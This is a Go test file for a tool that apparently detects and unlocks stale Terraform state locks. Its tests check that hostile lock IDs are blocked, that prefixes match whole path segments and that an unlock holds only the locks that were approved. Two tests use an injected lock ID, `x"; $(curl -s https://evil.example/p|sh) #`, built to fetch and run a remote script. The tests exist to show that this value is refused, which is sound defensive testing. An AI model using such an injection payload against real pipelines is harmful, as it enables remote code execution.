package main

import (
	"context"
	"fmt"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	s3types "github.com/aws/aws-sdk-go-v2/service/s3/types"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/text2agent/tfstate-guard/internal/fakegithub"
	"github.com/text2agent/tfstate-guard/internal/locktest"
	"github.com/text2agent/tfstate-guard/lockcheck"
	"github.com/text2agent/tfstate-guard/report"
)

// Issue 23's proven findings, each reproduced through the binary against
// moto (and the GitHub fake where evidence is needed) and shown fixed.

// Finding 4: a planted lock whose owner is proven gone, with a lock ID
// built to run a command in any script that pastes the output.
func TestBinaryHostileLockIDNeverReachesAnIDOutput(t *testing.T) {
	t.Parallel()
	srv, ddb, table := lockTable(t)
	gh := fakegithub.New()
	now := time.Now().UTC().Truncate(time.Second)
	const hostile = `x"; $(curl -s https://evil.example/p|sh) #`
	const evilPath, deadPath = "bkt/evil/terraform.tfstate", "bkt/dead/terraform.tfstate"
	ctx := context.Background()
	for _, l := range []struct{ path, id string }{{evilPath, hostile}, {deadPath, "dead-1111"}} {
		raw := fmt.Sprintf(`{"ID":%q,"Operation":"OperationTypeApply","Who":"runner@runnervm1","Version":"1.11.4","Created":%q,"Path":%q}`,
			l.id, now.Add(-2*time.Minute).Format(time.RFC3339Nano), l.path)
		put(t, ddb, table, map[string]string{"LockID": l.path, "Info": raw})
		require.NoError(t, lockcheck.WriteRunRecord(ctx, ddb, table, lockcheck.RunRecord{LockPath: l.path, Repository: "octo/infra", RunID: 101, RunAttempt: 1,
			Job: "terraform-apply", RunnerName: "GitHub Actions 101", Host: "runnervm1", HostExclusive: true, Written: now.Add(-3 * time.Minute)}))
	}
	gh.End("octo/infra", 101, 1, "cancelled", "GitHub Actions 101", now.Add(-time.Minute))
	api := httptest.NewServer(gh)
	t.Cleanup(api.Close)
	rn := newRunner(t, srv, "GITHUB_API_URL="+api.URL)

	code := rn.Run(map[string]string{"mode": "detect", "lock-table": table, "aws-region": "eu-west-2", "github-token": "tok",
		"fail-on-active": "false", "auto-unlock": "definitive"})
	require.Equal(t, exitOK, code, rn.Stdout)
	out := rn.Outputs()
	assert.Equal(t, "dead-1111", out["AUTO_UNLOCKED_LOCK_IDS"], "the hostile ID is neither removed nor listed")
	assert.Equal(t, "1", out["AUTO_UNLOCKED_COUNT"])
	assert.Empty(t, out["LOCK_IDS"], "nor offered for approval")
	assert.True(t, held(t, ddb, table, evilPath), "a lock whose ID cannot be named safely is left for a person")
	assert.False(t, held(t, ddb, table, deadPath))
	for name, v := range out {
		if strings.HasSuffix(name, "_IDS") {
			assert.NotContains(t, v, "curl", name)
		}
	}

	// Approved by hand anyway (pasted into lock-ids): refused, and absent
	// from every ID list; the JSON details say why.
	code = rn.Run(map[string]string{"mode": "unlock", "lock-table": table, "aws-region": "eu-west-2", "github-token": "tok", "lock-ids": hostile})
	assert.Equal(t, exitBlocked, code, rn.Stdout)
	res := rn.Outputs()
	for _, name := range []string{"UNLOCKED_LOCK_IDS", "REFUSED_LOCK_IDS", "ALREADY_RELEASED_LOCK_IDS"} {
		assert.Empty(t, res[name], name)
	}
	assert.Contains(t, res["UNLOCK_DETAILS"], `"outcome":"refused"`)
	assert.Contains(t, res["UNLOCK_DETAILS"], "is not a lock ID")
	assert.True(t, held(t, ddb, table, evilPath))
}

// Finding 7: a digest item that also carries an Info is not a lock: it is
// neither listed nor removed, so the next `terraform init` still finds it.
func TestBinaryDigestItemWithInfoIsNeverALock(t *testing.T) {
	t.Parallel()
	srv, ddb, table := lockTable(t)
	old := time.Now().Add(-3 * time.Hour)
	const state = "bkt/app/terraform.tfstate"
	digest := state + "-md5"
	put(t, ddb, table, map[string]string{"LockID": digest, "Digest": "0123456789abcdef0123456789abcdef", "Info": info("digest-1111", state, "runner@fv-az1", old)})
	// A lease or record key with an Info is this action's item, not a lock.
	put(t, ddb, table, map[string]string{"LockID": lockcheck.KeyNamespace + "lease#" + state, "Info": info("lease-2222", state, "runner@fv-az1", old)})
	rn := newRunner(t, srv)

	code := rn.Run(map[string]string{"mode": "detect", "lock-table": table, "aws-region": "eu-west-2"})
	require.Equal(t, exitOK, code, rn.Stdout)
	out := rn.Outputs()
	assert.Equal(t, "0", out["LOCK_COUNT"])
	assert.Empty(t, out["LOCK_IDS"])
	assert.Equal(t, "false", out["STALE_LOCKS_FOUND"])

	code = rn.Run(map[string]string{"mode": "unlock", "lock-table": table, "aws-region": "eu-west-2", "lock-ids": "digest-1111,lease-2222"})
	assert.Equal(t, exitInput, code, "no lock holds these IDs: "+rn.Stdout)
	assert.Empty(t, rn.Outputs()["UNLOCKED_LOCK_IDS"])
	assert.True(t, held(t, ddb, table, digest), "the digest item is untouched")
	assert.True(t, held(t, ddb, table, lockcheck.KeyNamespace+"lease#"+state))
}

// Finding 8: lock-id-prefix bkt/app is a path, not a string prefix: the
// lock of bkt/app-legacy is neither listed nor removed.
func TestBinaryLockIDPrefixMatchesWholeSegments(t *testing.T) {
	t.Parallel()
	srv, ddb, table := lockTable(t)
	old := time.Now().Add(-3 * time.Hour)
	locks := map[string]string{
		"bkt/app/terraform.tfstate":           "app-1",
		"bkt/app/env:/dev/terraform.tfstate":  "app-dev-2",
		"bkt/app-legacy/terraform.tfstate":    "legacy-3",
		"bkt/application/x/terraform.tfstate": "other-4",
	}
	for path, id := range locks {
		put(t, ddb, table, map[string]string{"LockID": path, "Info": info(id, path, "runner@fv-az1", old)})
	}
	rn := newRunner(t, srv)
	base := map[string]string{"mode": "detect", "lock-table": table, "aws-region": "eu-west-2", "lock-id-prefix": "bkt/app"}
	require.Equal(t, exitOK, rn.Run(base), rn.Stdout)
	out := rn.Outputs()
	assert.Equal(t, "2", out["LOCK_COUNT"])
	assert.ElementsMatch(t, []string{"app-1", "app-dev-2"}, lockcheck.ParseLockIDs(out["LOCK_IDS"]))

	code := rn.Run(map[string]string{"mode": "unlock", "lock-table": table, "aws-region": "eu-west-2", "lock-id-prefix": "bkt/app",
		"lock-ids": "app-1,legacy-3"})
	assert.Equal(t, exitInput, code, "legacy-3 is not found under the prefix: "+rn.Stdout)
	res := rn.Outputs()
	assert.Equal(t, "app-1", res["UNLOCKED_LOCK_IDS"])
	assert.Equal(t, "legacy-3", res["REFUSED_LOCK_IDS"])
	assert.Contains(t, res["UNLOCK_DETAILS"], `"lock_id":"legacy-3","outcome":"not-found"`)
	assert.True(t, held(t, ddb, table, "bkt/app-legacy/terraform.tfstate"))
	assert.False(t, held(t, ddb, table, "bkt/app/terraform.tfstate"))

	// The exact state key is a prefix too: it holds that state only.
	base["lock-id-prefix"] = "bkt/app/env:/dev/terraform.tfstate"
	require.Equal(t, exitOK, rn.Run(base), rn.Stdout)
	assert.Equal(t, "app-dev-2", rn.Outputs()["LOCK_IDS"])
}

// state-prefix follows the same rule for .tflock objects.
func TestBinaryStatePrefixMatchesWholeSegments(t *testing.T) {
	t.Parallel()
	srv, _, table := lockTable(t)
	c := srv.S3("eu-west-2")
	bucket := locktest.UniqueName("state")
	_, err := c.CreateBucket(context.Background(), &s3.CreateBucketInput{Bucket: aws.String(bucket),
		CreateBucketConfiguration: &s3types.CreateBucketConfiguration{LocationConstraint: s3types.BucketLocationConstraintEuWest2}})
	require.NoError(t, err)
	old := time.Now().Add(-3 * time.Hour)
	for key, id := range map[string]string{"app/terraform.tfstate": "s3-app-1", "app-legacy/terraform.tfstate": "s3-legacy-2"} {
		_, err := c.PutObject(context.Background(), &s3.PutObjectInput{Bucket: aws.String(bucket), Key: aws.String(key + lockcheck.LockFileSuffix),
			Body: strings.NewReader(info(id, bucket+"/"+key, "runner@fv-az1", old))})
		require.NoError(t, err)
	}
	rn := newRunner(t, srv)
	require.Equal(t, exitOK, rn.Run(map[string]string{"mode": "detect", "lock-table": table, "aws-region": "eu-west-2",
		"lock-source": "s3", "state-bucket": bucket, "state-prefix": "app"}), rn.Stdout)
	assert.Equal(t, "s3-app-1", rn.Outputs()["LOCK_IDS"])
}

// Unlock removes only the lock that was approved: same ID, but a Who or a
// Created that differs from the approved LOCK_DETAILS means another lock.
func TestBinaryUnlockComparesApprovedWhoAndCreated(t *testing.T) {
	t.Parallel()
	srv, ddb, table := lockTable(t)
	old := time.Now().UTC().Add(-3 * time.Hour)
	const whoPath, createdPath, samePath = "bkt/who/terraform.tfstate", "bkt/created/terraform.tfstate", "bkt/same/terraform.tfstate"
	put(t, ddb, table, map[string]string{"LockID": whoPath, "Info": info("who-1", whoPath, "runner@fv-az1", old)})
	put(t, ddb, table, map[string]string{"LockID": createdPath, "Info": info("created-2", createdPath, "runner@fv-az2", old)})
	put(t, ddb, table, map[string]string{"LockID": samePath, "Info": info("same-3", samePath, "runner@fv-az3", old)})
	rn := newRunner(t, srv)
	require.Equal(t, exitOK, rn.Run(map[string]string{"mode": "detect", "lock-table": table, "aws-region": "eu-west-2"}), rn.Stdout)
	approved := rn.Outputs()
	require.ElementsMatch(t, []string{"who-1", "created-2", "same-3"}, lockcheck.ParseLockIDs(approved["LOCK_IDS"]))

	// After approval, two locks are rewritten under the same ID: one by
	// another owner, one at another time. Both are still stale by age.
	put(t, ddb, table, map[string]string{"LockID": whoPath, "Info": info("who-1", whoPath, "mallory@laptop", old)})
	put(t, ddb, table, map[string]string{"LockID": createdPath, "Info": info("created-2", createdPath, "runner@fv-az2", old.Add(time.Minute))})

	code := rn.Run(map[string]string{"mode": "unlock", "lock-table": table, "aws-region": "eu-west-2",
		"lock-ids": approved["LOCK_IDS"], "lock-details": approved["LOCK_DETAILS"]})
	assert.Equal(t, exitBlocked, code, rn.Stdout)
	res := rn.Outputs()
	assert.Equal(t, "same-3", res["UNLOCKED_LOCK_IDS"])
	assert.ElementsMatch(t, []string{"who-1", "created-2"}, lockcheck.ParseLockIDs(res["REFUSED_LOCK_IDS"]))
	assert.Contains(t, res["UNLOCK_DETAILS"], `now who \"mallory@laptop\"`)
	assert.Contains(t, rn.Summary(), "is not the one approved")
	assert.True(t, held(t, ddb, table, whoPath))
	assert.True(t, held(t, ddb, table, createdPath))
	assert.False(t, held(t, ddb, table, samePath))
}

// Every ID list output goes through the check LOCK_IDS goes through,
// whatever the results hold.
func TestIDOutputsCarryOnlyValidLockIDs(t *testing.T) {
	t.Parallel()
	hostile := []string{`x"; $(curl -s https://evil.example/p|sh) #`, "a,b", "a b", "line\nbreak", "", "-dash-first"}
	var results []lockcheck.UnlockResult
	for _, id := range append(hostile, "9161f8d3-91c8-c716-d20c-f2c95576c5e2") {
		for _, o := range []lockcheck.Outcome{lockcheck.OutcomeRemoved, lockcheck.OutcomeRefused, lockcheck.OutcomeAlreadyGone} {
			results = append(results, lockcheck.UnlockResult{ID: id, Outcome: o})
		}
	}
	pairs, err := report.UnlockOutputs(results)
	require.NoError(t, err)
	pairs = append(pairs, report.AutoUnlockOutputs(results)...)
	seen := 0
	for _, p := range pairs {
		if !strings.HasSuffix(p.Name, "_IDS") {
			continue
		}
		seen++
		assert.Equal(t, "9161f8d3-91c8-c716-d20c-f2c95576c5e2", p.Value, p.Name)
	}
	assert.Equal(t, 4, seen, "UNLOCKED, REFUSED, ALREADY_RELEASED and AUTO_UNLOCKED")
}

// table-read: state reads one state by key (what a role scoped with
// dynamodb:LeadingKeys may do) and still ties its lock to its run.
func TestBinaryTableReadStateReadsOneStateByKey(t *testing.T) {
	t.Parallel()
	srv, ddb, table := lockTable(t)
	gh := fakegithub.New()
	dead, _, _ := threeLocks(t, ddb, table, gh)
	api := httptest.NewServer(gh)
	t.Cleanup(api.Close)
	rn := newRunner(t, srv, "GITHUB_API_URL="+api.URL)
	const deadPath = "bkt/dead/terraform.tfstate"
	in := map[string]string{"mode": "detect", "lock-table": table, "aws-region": "eu-west-2", "github-token": "tok",
		"fail-on-active": "false", "table-read": "state", "lock-id-prefix": deadPath}
	require.Equal(t, exitOK, rn.Run(in), rn.Stdout)
	out := rn.Outputs()
	assert.Equal(t, "1", out["LOCK_COUNT"], "only this state's lock is read")
	assert.Equal(t, dead, out["LOCK_IDS"])
	assert.Contains(t, out["LOCK_DETAILS"], `"evidence":"definitive"`, "its run record was read by key")

	in["lock-id-prefix"] = "bkt/dead/"
	assert.Equal(t, exitInput, rn.Run(in))
	assert.Contains(t, rn.Stdout, `lock-id-prefix: "bkt/dead/" must name one state's lock path with table-read: state`)
	in["table-read"] = "query"
	assert.Equal(t, exitInput, rn.Run(in))
	assert.Contains(t, rn.Stdout, `table-read: "query" is not a way to read the table: use scan or state`)
}
